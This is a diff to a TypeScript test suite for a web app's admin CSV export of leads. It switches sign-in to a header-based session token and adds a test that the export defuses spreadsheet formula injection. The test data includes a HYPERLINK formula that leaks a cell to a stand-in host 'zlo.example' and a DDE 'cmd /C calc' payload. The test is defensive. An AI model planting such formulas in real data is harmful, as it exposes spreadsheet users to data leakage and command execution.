@@ -7,6 +7,7 @@ import type { FundingCall, Lead } from '@/payload-types'
 
 import { serveApi } from './endpointServer'
 import { deleteAll, deleteAllUsers, getTestPayload, userData } from './payload'
+import { sessionToken } from './sessionToken'
 
 /**
  * The export of /admin's lists of leads and bookings: the rows the list shows with its filter
@@ -29,7 +30,7 @@ async function signIn(email: string) {
     body: JSON.stringify({ email, password }),
   })
   expect(response.status).toBe(200)
-  return ((await response.json()) as { token: string }).token
+  return sessionToken(response.headers)
 }
 
 /** GET an export as a signed-in user (or nobody), in an admin language. */
@@ -237,5 +238,54 @@ describe('exporting the list of leads', () => {
     expect(bookings.status).toBe(200)
     const [headers] = parse(await bookings.text(), { bom: true, delimiter: ';' }) as string[][]
     expect(headers!.slice(1, 5)).toEqual(['Početak', 'Kraj', 'Stanje', 'Ime i prezime'])
+  })
+  it('writes a visitor’s formula as text: a cell starting with = + - @ or a tab gets a leading quote (finding 2)', async () => {
+    const hostile = [
+      ['=HYPERLINK("http://zlo.example/?"&A1,"Kliknite")', 'Horvat'],
+      ["+cmd|' /C calc'!A0", '@SUM(1+1)'],
+      ['-2+3', '\tKovač'],
+    ]
+    const created = []
+    for (const [index, [firstName, lastName]] of hostile.entries()) {
+      created.push(
+        await payload.create({
+          collection: 'leads',
+          data: {
+            firstName,
+            lastName,
+            email: `formula.${index}@primjer.hr`,
+            message: '=1+1',
+            source: 'contact',
+            locale: 'hr',
+            delivery: { status: 'sent', attempts: 1 },
+            stage: 'new',
+          } as unknown as Lead,
+          overrideAccess: true,
+          context,
+        }),
+      )
+    }
+    try {
+      const response = await exportList(
+        'leads',
+        'format=csv&sort=email&search=formula.',
+        adviserToken,
+        'en',
+      )
+      expect(response.status).toBe(200)
+      const [headers, ...lines] = parse(await response.text(), { bom: true }) as string[][]
+      const cells = (name: string) => lines.map((line) => line[headers!.indexOf(name)])
+      expect(cells('First name')).toEqual([
+        `'=HYPERLINK("http://zlo.example/?"&A1,"Kliknite")`,
+        "'+cmd|' /C calc'!A0",
+        "'-2+3",
+      ])
+      expect(cells('Last name')).toEqual(['Horvat', "'@SUM(1+1)", "'\tKovač"])
+      expect(cells('Message')).toEqual(["'=1+1", "'=1+1", "'=1+1"])
+    } finally {
+      for (const lead of created) {
+        await payload.delete({ collection: 'leads', id: lead.id, overrideAccess: true, context })
+      }
+    }
   })
 })
